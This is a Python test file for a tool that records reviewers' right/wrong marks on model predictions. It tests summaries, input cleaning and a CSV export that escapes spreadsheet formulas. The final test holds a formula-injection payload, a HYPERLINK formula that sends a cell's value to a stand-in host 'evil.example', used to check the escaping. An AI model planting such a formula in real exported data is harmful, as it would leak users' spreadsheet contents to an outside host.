"""Review marks: worked examples for the latest verdicts, the summary and its sentence, the checks
on what a person types, and a CSV a spreadsheet cannot run."""

import io
from datetime import UTC, datetime, timedelta, timezone

import pandas as pd
import pytest

from proofdeck.review.marks import (
    COLUMNS,
    MAX_REASON,
    MAX_REVIEWER,
    RIGHT,
    WRONG,
    Mark,
    ReviewSummary,
    clean_mark_input,
    latest_verdicts,
    make_mark,
    marks_csv,
    marks_frame,
    summarise,
)

T0 = datetime(2025, 3, 1, 9, 0, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)


def team_marks() -> list[Mark]:
    """Three customers, two people (Ana also as "ANA", Ben also as "ben ").

    A: Ana right (9:00), Ben wrong (11:00)            -> latest wrong; Ana right vs Ben wrong: disputed
    B: Ben wrong (10:00), Ana right (10:00, later in list) -> latest right (tie: later position);
       Ben wrong vs Ana right: disputed
    C: ANA right (12:00)                              -> latest right; one reviewer: not disputed
    """
    return [
        Mark("A", RIGHT, "", "Ana", T0),
        Mark("B", WRONG, "churned anyway", "Ben", T0 + HOUR),
        Mark("A", WRONG, "was already leaving", "ben ", T0 + 2 * HOUR),
        Mark("B", RIGHT, "", "Ana", T0 + HOUR),
        Mark("C", RIGHT, "", "ANA", T0 + 3 * HOUR),
    ]


def test_latest_verdict_per_example_ties_go_to_the_later_mark_in_the_list():
    assert latest_verdicts(team_marks()) == {"A": WRONG, "B": RIGHT, "C": RIGHT}
    # Same moment: the later in the list wins, whichever it is.
    assert latest_verdicts([Mark("A", RIGHT, "", "Ana", T0), Mark("A", WRONG, "x", "Ana", T0)]) == {"A": WRONG}
    assert latest_verdicts([Mark("A", WRONG, "x", "Ana", T0), Mark("A", RIGHT, "", "Ana", T0)]) == {"A": RIGHT}
    # A later time wins even when it comes first in the list.
    assert latest_verdicts([Mark("A", WRONG, "x", "Ana", T0 + HOUR), Mark("A", RIGHT, "", "Ana", T0)]) == {"A": WRONG}
    assert latest_verdicts([]) == {}


def test_summary_counts_people_ignoring_case_and_spaces_and_disputes_by_each_reviewers_latest_mark():
    # Worked out in team_marks' docstring: 3 examples, Ana/ANA and Ben/ben are 2 people,
    # right on B and C, wrong on A, A and B disputed, 5 marks.
    assert summarise(team_marks()) == ReviewSummary(examples=3, reviewers=2, right=2, wrong=1, disputed=2, marks=5)


def test_a_reviewer_who_changes_their_mind_does_not_dispute_with_themselves():
    # Ana: right at 9:00, then wrong at 10:00; Ben: wrong. Each one's latest is wrong: no dispute.
    marks = [Mark("A", RIGHT, "", "Ana", T0), Mark("A", WRONG, "on reflection", " ana", T0 + HOUR),
             Mark("A", WRONG, "left", "Ben", T0 + HOUR)]
    assert summarise(marks) == ReviewSummary(examples=1, reviewers=2, right=0, wrong=1, disputed=0, marks=3)


@pytest.mark.parametrize(("summary", "text"), [
    (ReviewSummary(0, 0, 0, 0, 0, 0), "No customers reviewed yet."),
    (ReviewSummary(1, 1, 1, 0, 0, 1), "1 customer reviewed by 1 person; the model was right on it."),
    (ReviewSummary(1, 1, 0, 1, 0, 3), "1 customer reviewed by 1 person; the model was wrong on it."),
    (ReviewSummary(1, 2, 0, 1, 1, 2),
     "1 customer reviewed by 2 people; the model was wrong on it. Reviewers disagree on it."),
    (ReviewSummary(37, 3, 29, 8, 2, 50),
     "37 customers reviewed by 3 people; the model was right on 29 of them. Reviewers disagree on 2."),
    (ReviewSummary(5, 1, 0, 5, 0, 5), "5 customers reviewed by 1 person; the model was right on none of them."),
    (ReviewSummary(2, 2, 2, 0, 0, 2), "2 customers reviewed by 2 people; the model was right on both of them."),
    (ReviewSummary(6, 2, 6, 0, 0, 6), "6 customers reviewed by 2 people; the model was right on all of them."),
    (ReviewSummary(1234, 3, 1000, 234, 0, 1300),
     "1,234 customers reviewed by 3 people; the model was right on 1,000 of them."),
])
def test_the_sentence_in_singular_plural_and_none(summary, text):
    assert summary.sentence(entity="customer", entities="customers") == text


def test_the_sentence_from_real_marks():
    assert summarise(team_marks()).sentence("customer", "customers") == (
        "3 customers reviewed by 2 people; the model was right on 2 of them. Reviewers disagree on 2.")
    assert summarise([]).sentence("sales call", "sales calls") == "No sales calls reviewed yet."


@pytest.mark.parametrize(("verdict", "reason", "reviewer", "message"), [
    ("maybe", "x", "Ana", "right or wrong"),
    ("", "x", "Ana", "right or wrong"),
    (None, "x", "Ana", "right or wrong"),
    ("wrong", "   \n\t ", "Ana", "Say why it is wrong"),
    ("wrong", None, "Ana", "Say why it is wrong"),
    ("right", "", "   ", "Say who you are"),
    ("right", "", "\x00\x07\u202e", "Say who you are"),
    ("wrong", "", "", "Say who you are"),
])
def test_what_a_person_types_is_refused_in_plain_words(verdict, reason, reviewer, message):
    with pytest.raises(ValueError, match=message):
        clean_mark_input(verdict, reason, reviewer)


def test_what_a_person_types_is_tidied():
    assert clean_mark_input(" Wrong ", "  too\n\tlate \x07 now ", "  Ana   Lee ") == ("wrong", "too late now", "Ana Lee")
    assert clean_mark_input("right", "", "Ana") == ("right", "", "Ana")
    verdict, reason, reviewer = clean_mark_input("wrong", "x" * 500, "y" * 100)
    assert (verdict, len(reason), len(reviewer)) == ("wrong", MAX_REASON, MAX_REVIEWER)


def test_a_mark_needs_a_verdict_and_a_time_with_a_zone_and_is_kept_in_utc():
    with pytest.raises(ValueError):
        Mark("A", "unsure", "", "Ana", T0)
    with pytest.raises(ValueError):
        Mark("A", RIGHT, "", "Ana", datetime(2025, 3, 1, 9, 0))
    paris = Mark("A", RIGHT, "", "Ana", datetime(2025, 3, 1, 10, 0, tzinfo=timezone(timedelta(hours=1))))
    assert paris.marked_at == T0 and paris.marked_at.utcoffset() == timedelta(0)
    made = make_mark(17, "Wrong", " churned ", " Ana ", at=T0)
    assert made == Mark("17", WRONG, "churned", "Ana", T0)


def test_the_table_is_most_recent_first_with_labels_and_times_in_utc_to_the_second():
    frame = marks_frame(team_marks(), labels={"A": "Customer A-1"})
    assert list(frame.columns) == COLUMNS
    # By time, newest first; B's two marks share 10:00, so the later in the list (Ana's) comes first.
    assert frame["Example"].tolist() == ["C", "Customer A-1", "B", "B", "Customer A-1"]
    assert frame["Reviewer"].tolist() == ["ANA", "ben ", "Ana", "Ben", "Ana"]
    assert frame["Marked at (UTC)"].tolist() == ["2025-03-01 12:00:00", "2025-03-01 11:00:00",
                                                 "2025-03-01 10:00:00", "2025-03-01 10:00:00",
                                                 "2025-03-01 09:00:00"]
    odd = Mark("D", RIGHT, "", "Ana", datetime(2025, 3, 1, 10, 30, 15, 999_999, tzinfo=timezone(timedelta(hours=2))))
    assert marks_frame([odd])["Marked at (UTC)"].tolist() == ["2025-03-01 08:30:15"]
    empty = marks_frame([])
    assert list(empty.columns) == COLUMNS and empty.empty


def test_the_csv_writes_formula_starts_as_text_and_reads_back():
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    marks = [
        Mark("=1+1", WRONG, hyperlink, "@admin", T0),
        Mark("+cmd", WRONG, "-2 days late", "=Ana", T0 + HOUR),
        Mark("C", RIGHT, "fine, as expected", "Ben", T0 + 2 * HOUR),
    ]
    back = pd.read_csv(io.BytesIO(marks_csv(marks)), dtype=str, keep_default_na=False)
    assert list(back.columns) == COLUMNS
    # Newest first: C, +cmd, =1+1. Every formula start gets a leading apostrophe; the rest is as typed.
    assert back["Example"].tolist() == ["C", "'+cmd", "'=1+1"]
    assert back["Reason"].tolist() == ["fine, as expected", "'-2 days late", "'" + hyperlink]
    assert back["Reviewer"].tolist() == ["Ben", "'=Ana", "'@admin"]
    assert back["Verdict"].tolist() == [RIGHT, WRONG, WRONG]
    for column in back.columns:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in back[column])
